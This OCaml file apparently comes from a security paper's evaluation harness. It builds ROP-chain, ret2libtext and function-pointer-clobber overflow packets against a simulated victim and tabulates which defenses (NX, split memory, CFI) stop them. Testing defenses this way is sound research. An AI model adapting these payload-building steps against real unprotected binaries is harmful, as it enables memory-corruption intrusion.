(* The code-reuse campaign: retarget the victim's copy bug into attacks
   that execute no injected byte, then cross them (plus the classic
   injection representatives) against every defense configuration.

   This is the experimental half of the paper's §7 concession: split
   memory polices where instruction bytes *come from*, so an attack that
   only redirects control into bytes already on code pages sails through.
   The matrix makes the boundary exact — and shows the recommended
   composition (split memory for injection, CFI for reuse) closing it. *)

type attack = Rop_chain | Ret2libtext | Fptr_clobber

let attacks = [ Rop_chain; Ret2libtext; Fptr_clobber ]

let attack_name = function
  | Rop_chain -> "rop-chain"
  | Ret2libtext -> "ret2libtext"
  | Fptr_clobber -> "fptr-clobber"

(* --- exploit construction ------------------------------------------------ *)

let scan ?max_insns () = Gadget.scan_image ?max_insns (Victim.image ())

let chain_for img =
  Chain.execve_exit ~gadgets:(Gadget.scan_image img)
    ~sh_addr:(Kernel.Image.label img "sh")

(* The full byte string fed to the victim's stdin: selector, then the
   overflow packet. Everything before the trailing newline must be
   0x0A-free or the copy loop truncates it — asserted here, guaranteed
   by the victim's 16-byte-aligned gadget/maintenance addresses. *)
let packet img attack =
  let w = Attack.Shellcode.word32 in
  let saved_ebp = w 0x42424242 in
  let body =
    match attack with
    | Rop_chain -> Guest.filler 64 ^ saved_ebp ^ Chain.to_bytes (chain_for img)
    | Ret2libtext ->
      Guest.filler 64 ^ saved_ebp ^ w (Kernel.Image.label img "maintenance")
    | Fptr_clobber -> Guest.filler 64 ^ w (Kernel.Image.label img "maintenance")
  in
  assert (not (Attack.Shellcode.contains_newline body));
  let sel =
    match attack with
    | Rop_chain | Ret2libtext -> Victim.sel_stack
    | Fptr_clobber -> Victim.sel_fptr
  in
  sel ^ body ^ "\n"

(* One attack against one defense. The whole exploit is data fed up
   front: no leak step is needed because nothing about the text layout is
   randomized, the same property real ROP relies on absent ASLR. *)
let run ?defense attack =
  let img = Victim.image () in
  let s = Attack.Runner.start ?defense img in
  Attack.Runner.send s (packet img attack);
  ignore (Attack.Runner.step s);
  Attack.Runner.outcome s

(* A benign session down either victim path — the false-positive check
   for CFI: legitimate calls, returns and the data-pointer dispatch must
   all pass the monitor. *)
let benign ?defense sel =
  let s = Attack.Runner.start ?defense (Victim.image ()) in
  Attack.Runner.send s (sel ^ "short and harmless\n");
  ignore (Attack.Runner.step s);
  (Attack.Runner.outcome s, Kernel.Os.read_stdout s.k s.victim)

(* --- the defense x attack matrix ----------------------------------------- *)

(* Injection representatives: one per hijack class (return address,
   function pointer, longjmp buffer), shellcode on the stack — the rows
   split memory was built for. *)
let injection_reps =
  [
    ("inject-ret", Attack.Wilander.Ret_addr);
    ("inject-fptr", Attack.Wilander.Func_ptr_var);
    ("inject-longjmp", Attack.Wilander.Longjmp_var);
  ]

type row = Injection of Attack.Wilander.technique | Reuse of attack

let rows =
  List.map (fun (n, t) -> (n, Injection t)) injection_reps
  @ List.map (fun a -> (attack_name a, Reuse a)) attacks

let defenses =
  [
    ("unprotected", Defense.unprotected);
    ("nx", Defense.nx);
    ("split", Defense.split_standalone);
    ("cfi", Defense.cfi);
    ("split+cfi", Defense.split_plus_cfi);
  ]

let has_cfi = function Defense.Cfi_over _ -> true | _ -> false

(* What the paper's threat model predicts for each cell. *)
let expected_escape ~defense ~row =
  match row with
  | Injection _ -> defense = Defense.unprotected
  | Reuse _ -> not (has_cfi defense)

type cell = {
  defense : string;
  attack : string;
  expected : bool;  (** expected to escape *)
  result : (Attack.Runner.outcome, string) result;
}

let cell_ok c =
  match c.result with
  | Error _ -> false
  | Ok o ->
    if c.expected then Attack.Runner.is_attack_success o
    else (not (Attack.Runner.is_attack_success o)) && Attack.Runner.is_foiled o

let run_cell (defense, row) =
  match row with
  | Injection t -> Attack.Wilander.run ~defense t Attack.Wilander.Stack
  | Reuse a -> run ~defense a

(* Every cell is an independent machine, so the grid fans out across the
   fleet; submission order keeps the table bit-identical for any [jobs]. *)
let matrix ?jobs () =
  let cells =
    List.concat_map
      (fun (an, row) -> List.map (fun (dn, d) -> (an, row, dn, d)) defenses)
      rows
  in
  let results =
    Fleet.map ?jobs
      ~label:(fun (an, _, dn, _) -> Fmt.str "%s/%s" an dn)
      (fun (_, row, _, defense) -> run_cell (defense, row))
      cells
  in
  List.map2
    (fun (an, row, dn, d) r ->
      {
        defense = dn;
        attack = an;
        expected = expected_escape ~defense:d ~row;
        result = (match r with Ok o -> Ok o | Error e -> Error e.Fleet.reason);
      })
    cells results

let check cells = List.for_all cell_ok cells

let cell_text c =
  let t =
    match c.result with
    | Ok o -> Attack.Runner.outcome_name o
    | Error e -> "error: " ^ e
  in
  if cell_ok c then t else t ^ " **UNEXPECTED**"

let render ppf cells =
  let col_w =
    List.fold_left (fun w c -> max w (String.length (cell_text c))) 11 cells + 2
  in
  let attack_w =
    List.fold_left (fun w c -> max w (String.length c.attack)) 6 cells + 2
  in
  let pad w s = s ^ String.make (max 0 (w - String.length s)) ' ' in
  Fmt.pf ppf "%s" (pad attack_w "attack");
  List.iter (fun (dn, _) -> Fmt.pf ppf "%s" (pad col_w dn)) defenses;
  Fmt.pf ppf "@.";
  List.iter
    (fun (an, _) ->
      let row_cells = List.filter (fun c -> c.attack = an) cells in
      Fmt.pf ppf "%s" (pad attack_w an);
      List.iter
        (fun (dn, _) ->
          match List.find_opt (fun c -> c.defense = dn) row_cells with
          | Some c -> Fmt.pf ppf "%s" (pad col_w (cell_text c))
          | None -> Fmt.pf ppf "%s" (pad col_w "-"))
        defenses;
      Fmt.pf ppf "@.")
    rows;
  let bad = List.filter (fun c -> not (cell_ok c)) cells in
  if bad = [] then
    Fmt.pf ppf "%d cells, all as the threat model predicts@." (List.length cells)
  else Fmt.pf ppf "%d of %d cells UNEXPECTED@." (List.length bad) (List.length cells)
